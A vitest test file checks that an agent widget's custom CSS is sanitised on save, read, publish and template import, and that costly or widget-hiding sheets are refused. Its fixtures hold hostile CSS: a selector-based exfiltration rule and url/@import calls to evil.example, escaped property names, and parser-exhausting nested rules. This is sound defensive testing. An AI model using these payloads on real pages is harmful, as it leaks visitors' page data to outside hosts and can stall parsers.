import { expect, it } from 'vitest'
import { getAgent, saveAgent } from '#mocks/contracts/agents/agent.contract.ts'
import { importAgentTemplate } from '#mocks/contracts/agents/template-file.contract.ts'
import { publishAgent } from '#mocks/contracts/agents/version.contract.ts'
import { defaultErrors } from '#mocks/contracts/shared/default-errors.ts'
import { expectError, onBothSides } from '../../harness/both-sides.ts'
import type { World } from '../../harness/world.ts'

const dangerous = [
  'html:has(button[title^="P"]) :scope .vg-widget { mask-image: url(https://evil.example/P) }',
  '.vg-widget { background: url(https://evil.example/x); color: red }',
  '@im\\70ort "https://evil.example/x.css";',
  '.vg-widget { p\\6fsition: f\\69xed }',
  'body { color: blue }',
].join('\n')
const clean = '.vg-widget { color: red }\n.vg-scope { color: blue }'

const refused = (why: string) => ({ ...defaultErrors[422], fields: { customCSS: why } })
const tooDeep = refused('The CSS is nested more than 32 levels deep.')
const tooLong = refused('A condition or a selector of the CSS is too long to read.')
/** Sheets that cost a parser seconds, or all of its stack. */
const costly: [name: string, css: string, refusal: ReturnType<typeof refused>][] = [
  ['9,990 conditions in each other', '@media x{'.repeat(9_990), tooDeep],
  ['a condition of 84,000 characters', `@supports ${'(a:b)and'.repeat(12_000)}`, tooLong],
]

function of(world: World, agentId = world.agentId) {
  const about = { params: { region: 'eu', agentId } }
  return {
    save: (customCSS: string) => world.owner.call(saveAgent, { ...about, body: { customCSS } }),
    read: () => world.owner.call(getAgent, about),
    publish: () => world.owner.call(publishAgent, about),
    bring: (customCSS: string) =>
      world.owner.call(importAgentTemplate, {
        params: { region: 'eu' },
        body: {
          agentTemplate: { schemaVersion: 1, agent: { title: 'Brought', customCSS } },
          agentId: world.newAgentId(),
          workspaceId: world.workspaceId,
        },
      }),
  }
}

onBothSides('CSS of an agent', (makeWorld) => {
  it('is kept clean, whoever writes it, and reaches visitors as it is kept', async () => {
    const world = await makeWorld()
    const { save, read, publish, bring } = of(world)
    expect((await save(dangerous)).body.customCSS).toBe(clean)
    expect((await read()).body.customCSS).toBe(clean)
    expect((await publish()).body.customCSS).toBe(clean)
    expect((await save(clean)).body.customCSS).toBe(clean)
    expect((await bring(dangerous)).body.agentCreated.customCSS).toBe(clean)
  })

  it.each(costly)('is refused in words where it costs too much to read: %s', async (_, css, refusal) => {
    const world = await makeWorld()
    const { save, read, bring } = of(world)
    expectError(saveAgent, await save(css), 422, refusal)
    expectError(importAgentTemplate, await bring(css), 422, refusal)
    expect((await read()).body.customCSS).toBe('')
  })

  it('is not published when visitors could not use the widget with it', async () => {
    const world = await makeWorld()
    const { save, publish, bring } = of(world)
    const unusable = {
      code: 'widget_unusable',
      message: 'Visitors could not use this widget. The message box would be hidden.',
    }
    const hidden = '.vg-widget__composer { display: none }'
    expect((await save(hidden)).status).toBe(200)
    expectError(publishAgent, await publish(), 422, unusable)
    expectError(importAgentTemplate, await bring(hidden), 422, unusable)
    await save('.vg-widget__composer { display: flex }')
    expect((await publish()).status).toBe(200)
  })
})
